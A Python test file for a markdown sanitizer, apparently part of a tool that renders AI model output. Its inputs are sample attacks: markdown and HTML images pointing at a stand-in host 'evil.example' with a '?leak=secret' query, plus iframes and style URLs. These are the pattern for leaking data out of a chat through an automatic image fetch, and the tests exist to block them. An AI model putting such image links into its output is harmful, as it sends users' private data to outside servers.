"""Model output cannot make the browser fetch anything, and still reads as written."""

from __future__ import annotations

from workbench.safety import safe_markdown


def test_markdown_images_become_text():
    out = safe_markdown("See ![chart](https://evil.example/pixel.png?leak=secret) here")
    assert "![" not in out and "](https://evil" not in out
    assert "image blocked: chart" in out and "https://evil.example/pixel.png?leak=secret" in out


def test_reference_images_and_raw_html_are_inert():
    out = safe_markdown('![x][ref]\n\n[ref]: https://evil.example/a.png\n<img src="https://evil.example/b.png">'
                        '<iframe src="https://evil.example"></iframe><style>body{background:url(https://e.x)}</style>')
    assert "<img" not in out and "<iframe" not in out and "<style" not in out
    assert "&lt;img" in out
    assert "image blocked: x" in out


def test_ordinary_text_and_comparisons_survive():
    assert safe_markdown("Risk: HIGH. 3 < 5 and **bold**") == "Risk: HIGH. 3 < 5 and **bold**"
    # what a copy button copies and a chat box's pencil shows: as written, no entities
    assert safe_markdown("S&P 500 > 5,000, P&L at P/E < 15 & M&A") == "S&P 500 > 5,000, P&L at P/E < 15 & M&A"


def test_no_tag_or_comment_can_start_anywhere():
    raw = ('M&A at P/E < 15? <img src="https://evil.example/b.png"><!-- x --></b><?php ?><![CDATA[x]]> '
           '![x](https://evil.example/a.png) ![y][ref] <https://example.com>')
    out = safe_markdown(raw)
    assert "<img" not in out and "<!" not in out and "</b" not in out and "<?" not in out and "![" not in out
    assert "&lt;img" in out and "image blocked: x" in out and "image blocked: y" in out
    assert out.startswith("M&A at P/E < 15? ")


def test_an_image_too_long_for_the_patterns_is_still_inert():
    """The image patterns are bounded (a text of many "![" never closed took seconds); an image
    past their bounds is not named "image blocked" but its "![" is escaped all the same."""
    long_alt = "![" + "a" * 600 + "](https://evil.example/pixel.png)"
    long_url = "![x](https://evil.example/" + "p" * 2100 + ".png)"
    for text in (long_alt, long_url):
        out = safe_markdown(text)
        assert "![" not in out and out.startswith("!\\[")
    assert safe_markdown("<https://example.com/" + "a" * 2100 + ">").startswith("&lt;https")  # no autolink either
